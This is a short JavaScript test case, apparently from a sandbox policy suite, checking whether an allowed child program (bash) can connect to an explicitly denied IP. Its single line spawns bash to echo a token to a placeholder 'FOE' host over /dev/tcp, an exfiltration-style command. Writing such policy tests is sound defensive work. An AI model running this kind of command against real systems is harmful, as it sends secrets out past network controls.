// A connection by an allowed program
// Has bash, which is allowed, connect.
// policy: network-of-children
// audit: explicitlyDeniedIP
// proof: arrival
'use strict';
const childProcess = require('child_process');

module.exports = async (at) => childProcess.spawnSync('/usr/bin/bash', ['-c', `echo ${at.token} > /dev/tcp/${at.FOE}/${at.PORT}`]).status === 0;
